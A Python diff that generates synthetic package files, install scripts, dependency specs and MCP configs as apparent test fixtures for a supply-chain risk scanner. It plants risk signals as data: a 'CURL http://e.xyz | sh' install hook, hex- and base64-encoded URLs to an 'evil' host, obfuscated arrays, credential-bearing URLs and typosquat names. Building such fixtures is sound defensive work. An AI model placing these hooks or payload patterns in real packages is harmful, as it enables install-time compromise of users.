@@ -1,0 +1,164 @@
+r"""Package corpora derived from the test tables.
+
+The tables hold prose and orders, no package code, so risk signals are planted by plain SQL that
+Spark and DuckDB run unchanged.  In the snippets ``~`` stands for a backslash, ``§`` for a single
+quote and ``¶`` for a line break; ``{B64}``, ``{LONG}`` and ``{ARR}`` expand to long runs.
+"""
+
+from __future__ import annotations
+
+from pyspark.sql import DataFrame, SparkSession
+
+from .layout import ensure_parallel
+
+TABLES = (
+    "region", "nation", "customer", "supplier", "part", "orders", "lineitem", "events",
+    "documents", "embeddings", "pages", "benchmark", "labels", "conversations",
+)
+
+#: View name -> SQL over the test tables and earlier views.
+VIEWS = {
+    "package_files": """
+SELECT concat('pkg-', CAST(CAST(floor(doc_id / 8) AS BIGINT) AS STRING)) AS pkg,
+ concat('1.', CAST(doc_id % 2 AS STRING), '.0') AS version,
+ concat(CASE doc_id % 11 WHEN 0 THEN 'test/' WHEN 1 THEN 'dist/' WHEN 2 THEN 'node_modules/x/' ELSE 'src/' END,
+  lang, '/f', CAST(doc_id AS STRING),
+  CASE doc_id % 13 WHEN 0 THEN '.d.ts' WHEN 1 THEN '.json' WHEN 2 THEN '.wasm' WHEN 3 THEN '.ts' WHEN 4 THEN '.test.js' WHEN 5 THEN '.md' ELSE '.js' END) AS path,
+ concat(text, chr(10), replace(replace(replace(replace(replace(replace(coalesce(snippet, 'const ok = 1;'),
+  '~', chr(92)), '§', chr(39)), '¶', chr(10)), '{B64}', repeat('QUJD', 150)), '{LONG}', repeat('x', 1200)), '{ARR}', repeat('"ab",', 60))) AS content
+FROM documents LEFT JOIN (VALUES
+ (0, 'eval(x);'), (1, 'new Function("a");'), (2, 'const c = require(§child_process§);'),
+ (3, 'execSync(§ls§); exec(§a§)'), (4, 'execFile(§a§)'), (5, 'spawn(§a§)'), (6, '  exec(§a§)'),
+ (7, 'fetch(u)'), (8, 'http.request(o)'), (9, 'https.request(o)'), (10, 'new XMLHttpRequest()'),
+ (11, 'axios.get(u)'), (12, 'got(u)'), (13, 'require(§node-fetch§)'), (14, 'require(§undici§)'),
+ (15, 'require(name)'), (16, 'process.env.HOME'), (17, 'fs.writeFileSync(p)'), (18, 'fs.rm(p)'), (19, 'fs.unlink(p)'),
+ (20, 'const m = "do not eval(x)";'), (21, '// eval(x) is bad'),
+ (22, '/* start¶ eval(x)¶ end */ eval(y)¶spawn(z)'), (23, 're.exec(s); a.exec(b)'),
+ (24, 'const u = "https://evil.badsite.xyz/p.exe?q=1";'),
+ (25, 'see https://api.github.com/x and http://203.0.113.7:8080/a'),
+ (26, 'const ip = "45.33.32.156"; const l = "127.0.0.1";'),
+ (27, '"~x68~x74~x74~x70~x73~x3a~x2f~x2f~x65~x76~x69~x6c~x2e~x78~x79~x7a"'),
+ (28, '"~u0068~u0074~u0074~u0070~u003a~u002f~u002f~u0065~u002e~u0063~u0063~u002f"'),
+ (29, 'String.fromCharCode(104,116,116,112,58,47,47,99,46,99,99,47)'),
+ (30, 'atob("aHR0cHM6Ly9ldmlsLmJhZHNpdGUueHl6L3BheWxvYWQ=")'),
+ (31, 'x = "{B64}"'), (32, '{LONG}'),
+ (33, 'var _0x1a2b=[{ARR}];(function(a){a.push(a.shift())})(_0x1a2b)'),
+ (34, 'var t=[{ARR}];'), (35, 'url = "http://user:pw12345@host.badsite.xyz/"')
+) AS p(k, snippet) ON doc_id % 72 = k""",
+    "pkg_flags": """
+SELECT DISTINCT pkg, version, CAST(substring(pkg, 5, 20) AS BIGINT) % 4 = 0 AS is_cli FROM package_files""",
+    "source_files": """
+SELECT pkg, version,
+ CASE WHEN length(path) % 10 = 3 THEN regexp_replace(path, '[.]js$', '.ts') ELSE path END AS path,
+ CASE WHEN length(content) % 7 = 0 THEN concat(content, '// changed') ELSE content END AS content
+FROM package_files WHERE length(content) % 9 <> 0""",
+    "dependency": """
+SELECT DISTINCT concat('cust-', CAST(o_custkey AS STRING)) AS pkg, '1.0.0' AS version,
+ concat('part-', CAST(l_partkey AS STRING)) AS name,
+ CASE l_partkey % 97 WHEN 0 THEN '*' WHEN 1 THEN 'latest' WHEN 2 THEN '' WHEN 3 THEN 'git+https://github.com/u/r.git'
+  WHEN 4 THEN 'github:u/r' WHEN 5 THEN 'u/r' WHEN 6 THEN 'git+ssh://git@github.com/u/r' WHEN 7 THEN 'https://x.y/z.git'
+  WHEN 8 THEN 'workspace:*' ELSE '^1.2.3' END AS spec,
+ CASE WHEN l_linenumber = 1 THEN 'optional' ELSE 'direct' END AS kind
+FROM orders JOIN lineitem ON o_orderkey = l_orderkey""",
+    "script": """
+SELECT concat('cust-', CAST(c_custkey AS STRING)) AS pkg, '1.0.0' AS version,
+ CASE c_custkey % 9 WHEN 0 THEN 'preinstall' WHEN 1 THEN 'install' WHEN 2 THEN 'postinstall' WHEN 3 THEN 'preuninstall'
+  WHEN 4 THEN 'uninstall' WHEN 5 THEN 'postuninstall' WHEN 6 THEN 'prepare' WHEN 7 THEN 'test' ELSE 'build' END AS name,
+ CASE c_custkey % 7 WHEN 0 THEN 'node setup.js' WHEN 1 THEN 'CURL http://e.xyz | sh' WHEN 2 THEN 'wget x' WHEN 3 THEN 'node -e 1'
+  WHEN 4 THEN 'tsc' WHEN 5 THEN 'powershell x' ELSE 'husky install' END AS command
+FROM customer""",
+    "popular": """
+SELECT name, CAST(row_number() OVER (ORDER BY name) AS INT) AS ord
+FROM (SELECT DISTINCT replace(lower(p_name), ' ', '-') AS name FROM part) AS d""",
+    "candidate_names": """
+SELECT DISTINCT CASE p_partkey % 6 WHEN 0 THEN n WHEN 1 THEN concat(n, 'x') WHEN 2 THEN substring(n, 2, 100)
+  WHEN 3 THEN concat('@evil/', n) WHEN 4 THEN concat(upper(n), 'ZZ') ELSE concat(n, '-unrelated-name') END AS name
+FROM (SELECT p_partkey, replace(lower(p_name), ' ', '-') AS n FROM part) AS d""",
+    "repo_link": """
+SELECT concat('cust-', CAST(c_custkey AS STRING)) AS pkg, '1.0.0' AS version,
+ CASE c_custkey % 9 WHEN 0 THEN concat('https://github.com/o', CAST(c_custkey AS STRING), '/r')
+  WHEN 1 THEN concat('git+https://github.com/o', CAST(c_custkey AS STRING), '/r.git')
+  WHEN 2 THEN concat('git://github.com/o', CAST(c_custkey AS STRING), '/r.git')
+  WHEN 3 THEN concat('github:o', CAST(c_custkey AS STRING), '/r') WHEN 4 THEN 'https://gitlab.com/o/r'
+  WHEN 5 THEN '' WHEN 6 THEN 'git@github.com:o/r.git' WHEN 7 THEN 'https://github.com/only'
+  ELSE concat('https://github.com/o', CAST(c_custkey AS STRING), '/r/tree/main//') END AS repository_url,
+ CASE WHEN c_custkey % 2 = 0 THEN concat('O', CAST(c_custkey AS STRING)) ELSE 'ci-bot' END AS publisher,
+ CASE WHEN c_custkey % 5 = 0 THEN 'oidc' END AS provenance_id
+FROM customer""",
+    "repo_health": """
+SELECT concat('o', CAST(o_custkey AS STRING), '/r') AS full_name, CAST((o_custkey * 37) % 300 AS BIGINT) AS raw_stars,
+ CASE WHEN o_custkey % 10 = 0 THEN CAST(0 AS BIGINT) ELSE CAST((o_custkey * 37) % 300 AS BIGINT) END AS stars,
+ o_custkey % 17 = 0 AS archived, max(o_orderdate) AS created_at
+FROM orders GROUP BY o_custkey""",
+    "specifier": """
+SELECT c_custkey AS id, CASE c_custkey % 8 WHEN 0 THEN 'lodash' WHEN 1 THEN 'lodash@4.17.21' WHEN 2 THEN '@s/n'
+ WHEN 3 THEN '@s/n@1.2.3' WHEN 4 THEN './p-1.0.0.tgz' WHEN 5 THEN 'x@latest' WHEN 6 THEN '@s/n@latest' ELSE 'a@^2.0.0' END AS target
+FROM customer""",
+    "tool_config": """
+SELECT concat('cfg-', CAST(c_custkey AS STRING)) AS config_file,
+ CASE c_custkey % 7 WHEN 0 THEN '{"mcpServers":{"a":{"command":"npx","args":["-y","@s/n@1.2.3"]}}}'
+  WHEN 1 THEN '{"mcpServers":{"a":{"command":"npx.exe","args":["my-server"]},"b":{"command":"node","args":["./s.js"]}}}'
+  WHEN 2 THEN '{"mcpServers":{"a":{"command":"bunx","args":["-p","pkg","bin@latest"]}}}'
+  WHEN 3 THEN '{"other":1}' WHEN 4 THEN 'not json' WHEN 5 THEN '{"mcpServers":{"a":{"command":"python"}}}'
+  ELSE '{"mcpServers":{"a":{"command":"npx","args":["--foo","x@next"]}}}' END AS body
+FROM customer""",
+    # Manifest data of the file packages: package i belongs to customer i.
+    "release": """
+SELECT DISTINCT pkg, version, concat('cust-', substring(pkg, 5, 20)) AS owner FROM package_files""",
+    "release_dependency": """
+SELECT r.pkg, r.version, d.name, d.spec, d.kind FROM release r JOIN dependency d ON d.pkg = r.owner""",
+    "release_script": """
+SELECT r.pkg, r.version, s.name, s.command FROM release r JOIN script s ON s.pkg = r.owner""",
+    "release_link": """
+SELECT r.pkg, r.version, l.repository_url, l.publisher, l.provenance_id
+FROM release r JOIN repo_link l ON l.pkg = r.owner""",
+    # Package i goes by the i-th kind of candidate name.
+    "release_name": """
+SELECT r.pkg, r.version, CASE p_partkey % 6 WHEN 0 THEN n WHEN 1 THEN concat(n, 'x') WHEN 2 THEN substring(n, 2, 100)
+  WHEN 3 THEN concat('@evil/', n) WHEN 4 THEN concat(upper(n), 'ZZ') ELSE concat(n, '-unrelated-name') END AS name
+FROM release r JOIN (SELECT p_partkey, replace(lower(p_name), ' ', '-') AS n FROM part) AS q
+  ON concat('cust-', CAST(p_partkey AS STRING)) = r.owner""",
+}
+
+#: View name -> the views it reads, in order of registration.
+_NEEDS = {
+    "pkg_flags": ("package_files",),
+    "source_files": ("package_files",),
+    "release": ("package_files",),
+    "release_dependency": ("package_files", "release", "dependency"),
+    "release_script": ("package_files", "release", "script"),
+    "release_link": ("package_files", "release", "repo_link"),
+    "release_name": ("package_files", "release"),
+}
+
+
+def closure(names: list[str]) -> list[str]:
+    """The named views and those they need, each after what it needs."""
+    ordered: dict[str, None] = {}
+    for name in names:
+        for needed in (*_NEEDS.get(name, ()), name):
+            ordered.setdefault(needed)
+    return list(ordered)
+
+
+def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
+    return spark.read.parquet(f"{sf_dir}/{name}.parquet")
+
+
+def view(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
+    """A planted relation as a DataFrame over the tables in ``sf_dir``."""
+    for base in TABLES:
+        if base in VIEWS[name] or any(base in VIEWS[n] for n in _NEEDS.get(name, ())):
+            df = table(spark, sf_dir, base)
+            if base == "documents":
+                df = ensure_parallel(df.select("doc_id", "text", "lang"), "doc_id")
+            df.createOrReplaceTempView(base)
+    for needed in closure([name]):
+        spark.sql(VIEWS[needed]).createOrReplaceTempView(needed)
+    return spark.table(name)
+
+
+def with_views(names: list[str], body: str) -> str:
+    """One SQL text that defines the named views and then runs ``body``."""
+    ctes = [f"{n} AS ({VIEWS[n]})" for n in closure(names)]
+    return "WITH " + ",\n".join(ctes) + "\n" + body
